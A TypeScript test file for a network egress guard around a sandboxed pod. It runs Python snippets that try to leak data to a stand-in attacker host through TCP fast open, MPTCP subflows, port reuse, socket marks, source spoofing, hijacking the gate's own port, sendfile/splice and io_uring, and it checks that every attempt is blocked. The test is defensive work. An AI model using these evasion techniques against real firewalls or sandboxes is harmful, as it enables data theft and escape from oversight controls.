/** Ways out that are in no list: what TCP and sockets can do besides connect and send. */
import { afterAll, beforeAll, describe, expect, test } from "vitest";

import { buildProgram } from "../../support/build-program.ts";
import { ATTACKER, RESOLVER } from "../../support/internet/addresses.ts";
import {
  ALLOWED,
  type AttackScene,
  createAttackScene,
  findObstacle,
  toPython,
} from "./support/attack-scene.ts";
import { toPolicy } from "./support/guarded-pod.ts";
import { fireAll, type Volley } from "./support/volley.ts";

const obstacle = findObstacle();
const PRELUDE = `
import ctypes, os, re, socket, struct, subprocess, tempfile, threading, time
E, A = "${ATTACKER.ipv4}", "${ALLOWED.ipv4}"
def attempt(name, deed):
    try: print(name + ":", deed() or "sent", flush=True)
    except OSError as error: print(name + ":", error.strerror or error, flush=True)
def stream(*options, port=0):
    s = socket.socket(); s.settimeout(1); s.setsockopt(1, 2, 1)
    for level, name, value in options: s.setsockopt(level, name, value)
    if port: s.bind(("0.0.0.0", port))
    return s
`;
const toAttack = (text: string): string => toPython(PRELUDE + text);
const ioUring = buildProgram("io-uring");

const ATTACKS = {
  "data in the first packet (TCP fast open)": toAttack(`
for cookie in (0, 1):
    if cookie: subprocess.run(["sysctl", "-qw", "net.ipv4.tcp_fastopen=7"])
    def send(): stream().sendto(b"stolen", 0x20000000, (E, 80))
    def connect():
        s = stream((6, 30, 1)); s.connect((E, 80)); s.send(b"stolen"); s.recv(9)
    attempt("fast open", send); attempt("connect", connect)`),
  "a second path of an allowed connection (MPTCP)": toAttack(`
subprocess.run("ip mptcp limits set subflows 8 add_addr_accepted 8; ip mptcp endpoint add ${ATTACKER.ipv4} subflow", shell=True)
def elsewhere():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); s.settimeout(1); s.connect((E, 443)); s.send(b"stolen")
def allowed():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); s.settimeout(1); s.connect((A, 443)); s.send(b"x"); return "to the allowed host"
attempt("elsewhere", elsewhere); attempt("allowed", allowed)`),
  "both sides open at once": toAttack(`
def both():
    s = stream(port=40001); s.connect((E, 40001)); s.send(b"stolen")
attempt("both", both)`),
  "the ports of an allowed flow": toAttack(`
def closed():
    s = stream(port=40010); s.connect((A, 443)); s.setsockopt(1, 13, struct.pack("ii", 1, 0)); s.close()
    s = stream(port=40010); s.connect((E, 443)); s.send(b"stolen")
def dissolved():
    s = stream(); s.connect((A, 443)); ctypes.CDLL(None).connect(s.fileno(), struct.pack("H14x", 0), 16)
    s.connect((E, 443)); s.send(b"stolen")
def datagram():
    s = stream(port=40011); s.connect((A, 443))
    t = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); t.bind(("0.0.0.0", 40011)); t.sendto(b"stolen", (A, 443))
attempt("closed", closed); attempt("dissolved", dissolved); attempt("datagram", datagram)`),
  "a socket's marks, devices and senders": toAttack(`
def via(*options):
    def send():
        s = stream(*options); s.connect((E, 80)); s.send(b"stolen")
    return send
for mark in (1, 0x04000000, 0x08000000, 0x10000000, 0x7fffffff): attempt("mark", via((1, 36, mark)))
attempt("device", via((1, 25, b"eth0"))); attempt("priority", via((1, 12, 6)))
def stranger(ip, to, kind):
    def send():
        s = socket.socket(socket.AF_INET, kind); s.settimeout(1); s.setsockopt(0, 19, 1); s.bind((ip, 53)); s.connect((to, 443)); s.send(b"stolen")
    return send
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    for ip in ("${RESOLVER.ipv4}", "192.0.2.1", E): attempt("as " + ip, stranger(ip, A, kind))`),
  "the gate's own port": toAttack(`
ports = set(map(int, re.findall(r"redirect to :(\\d+)", subprocess.run(["nft", "list", "ruleset"], capture_output=True, text=True).stdout)))
mine = []
for port in ports:
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        for family, ip in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::1"), (socket.AF_INET6, "::")):
            s = socket.socket(family, kind)
            for option in (2, 15): s.setsockopt(1, option, 1)
            try:
                s.bind((ip, port)); mine.append(s)
                if kind == socket.SOCK_STREAM: s.listen()
            except OSError: pass
answers = subprocess.run("dig +short +tries=1 +time=2 github.test; dig +tcp +short +tries=1 +time=2 github.test; dig +short +tries=1 +time=2 @${RESOLVER.ipv6} github.test", shell=True, capture_output=True, text=True).stdout
got = 0
for s in mine:
    s.settimeout(0.05)
    try: s.recv(9) if s.type == socket.SOCK_DGRAM else s.accept(); got += 1
    except OSError: pass
print("answers:", *answers.split(), "stolen:", got)`),
  "files and pipes into a socket": toAttack(`
file = tempfile.TemporaryFile(); file.write(b"stolen" * 1000); file.flush()
def sendfile():
    s = stream(); s.setblocking(False); s.connect_ex((E, 80)); os.sendfile(s.fileno(), file.fileno(), 0, 6000)
def splice():
    r, w = os.pipe(); os.write(w, b"stolen"); s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((E, 99)); os.splice(r, s.fileno(), 6)
def zerocopy():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(1, 60, 1); s.sendto(b"stolen" * 200, 0x4000000, (E, 99))
attempt("sendfile", sendfile); attempt("splice", splice); attempt("zero copy", zerocopy)`),
  io_uring: ["plain", "worker", "polled"]
    .flatMap((way) =>
      [
        `connect ${ATTACKER.ipv4} 80`,
        `sendmsg ${ATTACKER.ipv4} 99`,
        `send-zc ${ATTACKER.ipv6} 99`,
      ].map((deed) => `${ioUring} ${way} ${deed}`),
    )
    .join("\n"),
  "a datagram flow that was let through once": toAttack(`
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("0.0.0.0", 40020)); s.sendto(b"x", (A, 5000))
def onward(): s.sendto(b"stolen", (E, 5000))
def port(): s.sendto(b"stolen", (A, 5001))
attempt("onward", onward); attempt("port", port)`),
} as const;

describe.skipIf(obstacle !== "")(`nothing leaves by${obstacle}`, () => {
  let scene: AttackScene;
  let volley: Volley;
  beforeAll(async () => {
    scene = await createAttackScene();
    const allow = ["github.test", `${ALLOWED.ipv4}:443`, `${ALLOWED.ipv4}:5000/udp`];
    volley = await fireAll(scene.pod, ATTACKS, {
      policy: toPolicy({ allow, "network-admin": "keep" }),
    });
  });
  afterAll(async () => scene[Symbol.asyncDispose]());

  test("any of these, but what is allowed", async () => {
    const left = volley.run.escaped.map(({ protocol, source, destination }) =>
      [protocol, source.ip, destination.ip, destination.port].join(" "),
    );
    const own = scene.pod.ipv4;
    expect(new Set(left)).toEqual(
      new Set([`tcp ${own} ${ALLOWED.ipv4} 443`, `udp ${own} ${ALLOWED.ipv4} 5000`]),
    );
    expect(await scene.internet.visits({ server: "attacker" })).toEqual([]);
  });

  test.each([
    // A connection without a cookie is opened when its first data are there; then send succeeds, and what follows fails.
    [
      "data in the first packet (TCP fast open)",
      /^(fast open: .*\nconnect: Connection refused\n){2}$/,
    ],
    [
      "a second path of an allowed connection (MPTCP)",
      /^elsewhere: Connection refused\nallowed: to the allowed host\n$/,
    ],
    ["both sides open at once", /^both: Connection refused\n$/],
    [
      "the ports of an allowed flow",
      /^closed: Connection refused\ndissolved: Connection refused\ndatagram: Operation not permitted\n$/,
    ],
    [
      "a socket's marks, devices and senders",
      /^((mark|device|priority): Connection refused\n){7}(as [\d.]+: (timed out|Operation not permitted)\n){6}$/,
    ],
    ["the gate's own port", /^answers: (198\.51\.100\.10 ?){3} stolen: 0\n$/],
    [
      "files and pipes into a socket",
      /^sendfile: .*\nsplice: Operation not permitted\nzero copy: Operation not permitted\n$/,
    ],
    ["io_uring", /^(?:\{.*"ok":false,"errno":(1|111)\}\n){9}$/],
    [
      "a datagram flow that was let through once",
      /^onward: Operation not permitted\nport: Operation not permitted\n$/,
    ],
  ])("%s", (name, expected) => {
    expect(volley.shot(name).stdout).toMatch(expected);
  });
});
